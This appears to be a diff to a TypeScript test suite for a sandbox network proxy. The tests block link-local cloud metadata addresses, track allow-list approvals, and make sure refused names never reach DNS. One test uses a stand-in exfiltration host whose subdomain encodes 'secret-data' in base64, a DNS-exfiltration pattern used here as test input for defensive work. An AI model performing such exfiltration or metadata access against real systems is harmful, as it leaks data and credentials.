@@ -53,12 +53,17 @@ test("a name let through by approval never dials a link-local (metadata) address
     return true;
   });
   // "sandbox": the entry an approval added does not count either.
+  const changes: string[][] = [];
+  policy.allowlist.onChange(() => changes.push(policy.allowlist.approvedEntries));
   policy.allowlist.add(["meta.test:80"], { approved: true });
+  // What the supervisor writes to the state record (inspect) and allowedHosts() report.
+  assert.deepEqual(policy.allowlist.approvedEntries, ["meta.test:80"]);
   await assert.rejects(dialer.resolveChecked("meta.test"), DialRefused);
   assert.equal(await dialer.resolveChecked("lan.test"), "10.1.2.3", "only link-local is held back");
   // Someone writing the entry (allow-list add) makes it theirs: documented as reachable.
   policy.allowlist.add(["meta.test:80"]);
   assert.equal(await dialer.resolveChecked("meta.test"), "169.254.169.254");
+  assert.deepEqual(changes, [["meta.test:80"], []], "losing the mark is a change the record sees");
   for (const a of ["169.254.1.1", "::ffff:169.254.169.254", "fd00:ec2::254", "fe80::1"])
     assert.equal(isLinkLocalAddress(a), true, a);
   assert.equal(isLinkLocalAddress("10.0.2.2"), false);
@@ -88,6 +93,39 @@ test("with propagation, the guest's own traceparent and tracestate never go upst
   const names = seen.headers.filter((_, i) => i % 2 === 0).map((n) => n.toLowerCase());
   assert.ok(!names.includes("traceparent"), "no traceparent of the guest's");
   assert.ok(!names.includes("tracestate"), "no tracestate of the guest's");
+});
+
+test("the approver is told the address the host would dial for the name", async () => {
+  const asked: RefusedRequest[] = [];
+  const { p, events } = proxy({ onHostRefused: approveAll(asked) });
+  const res = await guestRequest(p, { name: "other.test", port: up().httpPort, tls: false });
+  assert.equal(res.status, 200);
+  await settle(events);
+  assert.equal(asked.length, 1);
+  assert.equal(asked[0]?.host, "other.test");
+  assert.equal(asked[0]?.address, "127.0.0.1", "the test's resolve override for other.test");
+});
+
+test("a refused name is never looked up in DNS before a decision (no exfiltration by name)", async () => {
+  const asked: RefusedRequest[] = [];
+  const lookedUp: string[] = [];
+  const { p, events } = proxy({
+    onHostRefused: (r) => {
+      asked.push(r);
+      return { allow: false };
+    },
+    resolve4: (name) => {
+      lookedUp.push(name);
+      return Promise.resolve(["127.0.0.1"]);
+    },
+  });
+  const name = "c2VjcmV0LWRhdGE.exfil.example";
+  const res = await guestRequest(p, { name, port: up().httpPort, tls: false });
+  assert.equal(res.status, 403);
+  await settle(events);
+  assert.equal(asked.length, 1, "the request was put to the approver");
+  assert.equal(asked[0]?.address, undefined, "no address without a lookup");
+  assert.deepEqual(lookedUp, [], "the guest's chosen name never reached DNS");
 });
 
 test("a request that would leak a secret is refused as such, never put to the approver", async () => {
